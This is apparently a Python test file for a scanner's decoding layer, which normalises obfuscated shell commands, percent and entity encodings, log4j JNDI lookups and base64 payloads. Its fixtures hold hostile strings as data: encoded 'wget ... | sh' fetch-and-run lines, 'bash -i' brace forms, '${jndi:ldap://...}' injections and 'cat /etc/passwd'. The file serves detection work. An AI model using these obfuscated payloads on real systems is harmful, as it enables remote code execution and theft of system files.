"""Decoding views: each evasion is undone, composed chains still decode, every step is bounded."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dropscan.detect.decode import (
    MAX_B64_BLOBS,
    MAX_FIELD,
    _after_last_slashes,
    b64_texts,
    cmd_normalise,
    decode_b64,
    resolve_lookups,
    url_decode,
    views,
)


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("wget%20http%3A%2F%2Fh%2Fx", "wget http://h/x"),
        ("%2577%2567%2565%2574", "wget"),  # double
        ("%252577get", "wget"),  # triple
        ("%u0077get", "wget"),
        ("w%00get", "wget"),
        ("&#119;get&#x20;x", "wget x"),
        ("%26%23119%3Bget", "wget"),  # entity hidden under percent-encoding
        ("cd+/tmp;ls", "cd /tmp;ls"),
        ("1%2B1", "1+1"),
        ("\\u002524%7Bjndi", "${jndi"),  # JSON escape of a percent-encoding
        ("$\\u0026lbrace;jndi:", "${jndi:"),  # JSON escape of a named entity
        ("&#x24;&#000000000000000123;jndi:", "${jndi:"),  # zero-padded numeric entity
        ("%24&lcub;\\u006A&#110;di:", "${jndi:"),  # three layers mixed
    ],
)
def test_url_decode(raw, want):
    assert url_decode(raw) == want


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("w'g'et http://h/x", "wget http://h/x"),
        ('w"g"e"t', "wget"),
        ("w\\get", "wget"),
        ("wget${IFS}http://h/x", "wget http://h/x"),
        ("wget$IFS$9http://h/x", "wget http://h/x"),
        ("wget${IFS%??}http://h/x", "wget http://h/x"),
        ("{wget,http://h/x}", "wget http://h/x"),
        ("$'\\x77\\x67\\x65\\x74' h", "wget h"),
        ("printf '\\167\\147\\145\\164'", "printf wget"),
        ("w$@get", "wget"),
        ("p^o^w^e^r^s^h^e^l^l", "powershell"),
        ("c$_at /et$_c/pas$_swd", "cat /etc/passwd"),  # unset variables glued to words
        ("cat$u /etc${u}/passwd", "cat /etc/passwd"),
        ("echo $HOME/x", "echo $HOME/x"),  # a variable that starts a word is left alone
        ("/etc/pas[s]wd /bi[n]/sh [u]name", "/etc/passwd /bin/sh uname"),  # one-letter bracket globs
        ("a[0]=1", "a[0]=1"),
        ("a\tb   c", "a b c"),
        ("{l,-lh}s", "ls -lhs"),  # bash distributes the word around a brace list
        ("c{a,oun}t", "cat count"),
        ("x={ls,-la}", "x=ls -la"),  # but not across '=' (the parameter syntax)
        ("c$?at /et$!c/passwd", "cat /etc/passwd"),
        ("$_GET[x]", "$_GET[x]"),  # PHP superglobals are not shell expansions
        ("a; id | sh && ls", "a;id |sh &&ls"),  # no whitespace after a separator
        ("a & id", "a & id"),  # ...but a lone '&' keeps it (query strings)
        ("$(printf '\\167\\147\\145\\164') http://h/x", "wget http://h/x"),
        ("`echo wget` http://h/x", "wget http://h/x"),
        ("\\n/bin/ls -al\\n", "\n/bin/ls -al\n"),  # \n outside a word is a line break
        ("w\\ge\\t h", "wget h"),  # inside a word the backslash quotes a letter
    ],
)
def test_cmd_normalise(raw, want):
    assert cmd_normalise(raw) == want


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("${${lower:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://h/o}", "${jndi:rmi://h/o}"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/b}", "${jndi:ldap://h/b}"),
        ("${${upper:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${date:'j'}ndi:dns://h}", "${jndi:dns://h}"),
        ("${jndi:ldap://${env:USER}.h.example/a}", "${jndi:ldap://.h.example/a}"),
        ("${REMOVED_DEVICES}", ""),
        ("${unclosed", "${unclosed"),
        ("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "${jndi:ldap:addr}"),  # a lookup's value is a lookup
        ("${jn${base64:ZGk=}:ldap://h}", "${jndi:ldap://h}"),  # two-letter base64 value
    ],
)
def test_resolve_lookups(raw, want):
    assert resolve_lookups(raw) == want


def test_composed_chain_decodes():
    # double percent-encoding + quotes + ${IFS}
    raw = "%2577%2527g%2527et%2524%257BIFS%257Dhttp%253A%252F%252F198.51.100.2%252Fa"
    names = {v.name: v.text for v in views(raw)}
    assert names["cmd"] == "wget http://198.51.100.2/a"


def test_base64_only_next_to_a_decoder_and_only_when_printable():
    assert b64_texts("echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8gLXxzaA== | base64 -d | sh") == [
        "wget http://192.0.2.1/x -O -|sh"
    ]
    assert b64_texts("token=d2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8gLXxzaA==") == []  # no decoder named
    assert decode_b64("AAECAwQFBgcICQoLDA0ODw==") is None  # binary
    ps = "powershell -enc " + "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA=="
    assert b64_texts(ps) == ["iwr http://h/x"]  # UTF-16LE, as PowerShell -enc


def test_base64_brace_form_is_decoded_then_scanned():
    raw = "bash -c {echo,d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=}|{base64,-d}|{bash,-i}"
    vs = views(raw)
    assert ("base64", "wget http://192.0.2.1/x") in [(v.name, v.text) for v in vs]


# Fields as attackers build them: encodings, lookups, quotes, escapes, base64 next to a decoder,
# characters whose case mapping grows (ﬃ -> FFI), invalid UTF-8 under percent-encoding.
TOKENS = [
    *"%25uU0123456789abcdefABCDEF+&#;x{}$:-'\"\\`IFSjndi lowerupper,()=/^\t\x00 ",
    *("ﬃ", "İ", "ß", "\u202e", "%ff", "%c3", "%u0041", "%uD800", "&#x1F600;", "&#0;", "&amp;", "&Tab;"),
    *("${", "}", "${lower:", "${upper:", "${::-", "${env:X:-", "${base64:", "${jndi:ldap://h/a}", "${IFS}"),
    *("\\x41", "\\101", "$'", "{a,b}", "base64 -d ", "d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=", "/Base64/", "-enc "),
]
FIELDS = st.one_of(st.lists(st.sampled_from(TOKENS), max_size=60).map("".join), st.text(max_size=200))
# bounded by output size, never by time (benchmarks/hostile.py times the worst cases)
BOUNDED = settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@BOUNDED
@given(FIELDS)
def test_every_view_never_raises_and_its_output_is_bounded(text):
    # never raises, and grows by a small constant factor at most
    url = url_decode(text)
    assert len(url) <= len(text) * 4 // 3 + 1  # %ff -> \xff (backslashreplace) is the only growth
    assert len(cmd_normalise(text)) <= len(text) + MAX_FIELD  # brace lists add at most MAX_FIELD
    assert len(resolve_lookups(text)) <= 3 * len(text)  # str.upper: ﬃ -> FFI
    blobs = b64_texts(text)
    assert len(blobs) <= MAX_B64_BLOBS and all(len(b) <= len(text) for b in blobs)
    for word in text.split():
        decoded = decode_b64(word)
        assert decoded is None or len(decoded) <= len(word)
    vs = views(text)
    assert vs[0] == ("url", url)
    assert len({v.text for v in vs}) == len(vs)  # no duplicate views
    assert all(len(v.text) <= 3 * max(len(text), 16) + MAX_FIELD for v in vs)


@BOUNDED
@given(FIELDS)
def test_url_decode_is_a_fixed_point_once_nothing_is_left_to_decode(text):
    once = url_decode(text)
    if not any(c in once for c in "%&+"):
        assert url_decode(once) == once
    assert "\x00" not in once


@BOUNDED
@given(FIELDS)
def test_views_are_deterministic(text):
    assert views(text) == views(text)


@pytest.mark.parametrize(
    ("function", "text", "once", "twice"),
    [
        # A shell reads a caret before it reads a backslash, and only once: 0\^0 runs as 0^0.
        (cmd_normalise, "0\\^0", "0^0", "00"),
        # log4j substitutes left to right and does not rescan what a lookup produced.
        (resolve_lookups, "${::-$}{x}", "${x}", ""),
        # Percent-decoding stops after MAX_ROUNDS layers.
        (url_decode, "%" + "25" * 10 + "41", "%252541", "A"),
    ],
)
def test_the_views_are_not_idempotent_and_should_not_be(function, text, once, twice):
    """Each view models one reading by the target (a shell, log4j, a decoder with a cap);
    applying it twice models a second reading that does not happen, so idempotence is not a
    property of these views (the safety functions, which are, are tested in test_safe_output)."""
    assert function(text) == once and function(once) == twice


def test_bounded_work_on_hostile_fields():
    # each of these was quadratic or worse once; their times are in benchmarks/hostile.py
    views("%25" * 200_000)
    views("${" * 50_000 + "jndi:ldap://h/a" + "}" * 50_000)
    views("{a," * 30_000)
    views("\\x" * 100_000)
    views("echo " + "QUFB" * 100_000 + " | base64 -d")
    views("echo " + "a/" * (MAX_FIELD // 2) + " | base64 -d")  # was a copy per slash: 16 GB
    views("a" * (MAX_FIELD - 2) + "{,")  # the brace word was sought from every position: minutes
    braces = cmd_normalise("a" * (MAX_FIELD // 2) + "{" + "," * (MAX_FIELD // 4) + "}")  # was 8 G characters
    assert len(braces) <= 2 * MAX_FIELD
    assert len(views("a" * (MAX_FIELD * 3))[0].text) == MAX_FIELD


@given(st.text(alphabet="ab/", max_size=60), st.integers(0, 6))
def test_after_last_slashes_is_what_follows_the_last_n_slashes(blob, n):
    want = [blob[i + 1 :] for i, c in enumerate(blob) if c == "/"][-n:] if n else []
    assert _after_last_slashes(blob, n) == want


def test_a_deleted_nul_that_joins_an_escape_is_decoded_too():
    """Found by the fixed-point property: NULs were deleted after the last round, so the escape
    they split (\\u222<NUL>2) came back whole and undecoded."""
    assert url_decode("\\u222\x002") == "\u2222"
    assert url_decode("wg\x00et%20h") == "wget h"
